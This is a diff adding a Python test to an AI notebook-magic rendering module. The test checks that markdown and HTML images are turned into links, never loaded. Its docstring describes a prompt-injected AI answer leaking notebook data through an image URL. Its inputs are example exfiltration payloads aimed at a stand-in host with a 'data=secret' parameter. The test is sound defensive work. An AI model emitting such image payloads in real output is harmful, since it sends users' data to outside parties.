@@ -230,3 +230,17 @@ def test_code_format_highlights_without_fences() -> None:
     assert bundle["text/plain"] == "import os"
     assert "```" not in bundle["text/html"]
     assert ">import</span>" in bundle["text/html"]
+
+
+def test_images_are_links_never_loaded() -> None:
+    """A prompt-injected answer must not make the page fetch a URL carrying notebook data."""
+    from aimo_magic.rendering import render_bundle
+
+    for fmt, text in (
+        ("markdown", "![chart](https://collector.example/x?data=secret)"),
+        ("html", '<img src="https://collector.example/x?data=secret">'),
+    ):
+        html = render_bundle(text, fmt)["text/html"]
+        assert "<img" not in html
+    link = render_bundle("![chart](https://collector.example/x.png)", "markdown")["text/html"]
+    assert 'href="https://collector.example/x.png"' in link and "chart" in link
